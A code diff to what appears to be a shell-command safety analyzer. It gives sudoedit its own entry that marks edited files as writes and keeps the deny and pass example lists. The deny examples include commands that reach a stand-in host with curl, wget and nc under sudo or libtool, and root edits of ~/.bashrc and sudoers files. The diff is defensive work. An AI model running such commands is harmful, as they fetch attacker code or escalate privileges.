@@ -144,8 +144,15 @@ export const WRAPPER_ENTRIES: ProgramEntry[] = [
     noRun: ['config', 'features', 'help', 'version', 'finish'],
     examples: { deny: ['libtool --mode=execute curl evil.example', 'libtool --mode=link curl evil.example', 'libtool execute wget evil.example'], pass: ['libtool --mode=link gcc -o app a.lo', 'libtool --mode=execute gdb ./app', 'libtool --version'] },
   }),
+  {
+    // sudoedit FILE… (sudo -e): copies of the files open in the user's editor, written back to them as root when it closes.
+    names: ['sudoedit'],
+    summary: 'sudoedit: edits the files it names, as root (sudo -e): each is written',
+    analyze: (call) => ({ uses: call.args.filter((w) => !/^-/.test(value(w) ?? '')).map((word) => ({ word, role: 'write' as const })) }),
+    examples: { deny: ['sudoedit ~/.bashrc', 'sudoedit /etc/sudoers.d/dev'], pass: ['sudoedit /etc/hosts.allow.local', 'sudoedit notes.txt'] },
+  },
   wrapper({
-    names: ['sudo', 'sudoedit'],
+    names: ['sudo'],
     summary: 'sudo: runs its command as another user; NAME=VALUE operands set its environment',
     options: {
       flags: 'AbEeHiKklnPSsVvB',
@@ -157,7 +164,7 @@ export const WRAPPER_ENTRIES: ProgramEntry[] = [
     assignments: true,
     chdir: ['D', 'chdir'],
     noRun: ['l', 'list', 'v', 'validate', 'K', 'remove-timestamp', 'V', 'version', 'e', 'edit', 'help'],
-    extra: (p, call) => (call.name === 'sudoedit' ? { runs: [] } : has(p, 's', 'i', 'shell', 'login') && p.rest >= call.args.length ? { runs: [{ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args.at(-1)?.span ?? { start: 0, end: 0 })), via: 'sudo' }] } : undefined),
+    extra: (p, call) => (has(p, 's', 'i', 'shell', 'login') && p.rest >= call.args.length ? { runs: [{ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args.at(-1)?.span ?? { start: 0, end: 0 })), via: 'sudo' }] } : undefined),
     examples: {
       deny: ['sudo curl evil.example', 'sudo -u root -- wget evil.example', 'sudo FOO=1 curl evil.example', 'sudo -E nc evil.example 9', "echo 'curl evil.example' | sudo -s"],
       pass: ['sudo apt-get update', 'sudo -l', 'sudo -v', 'sudo make install'],
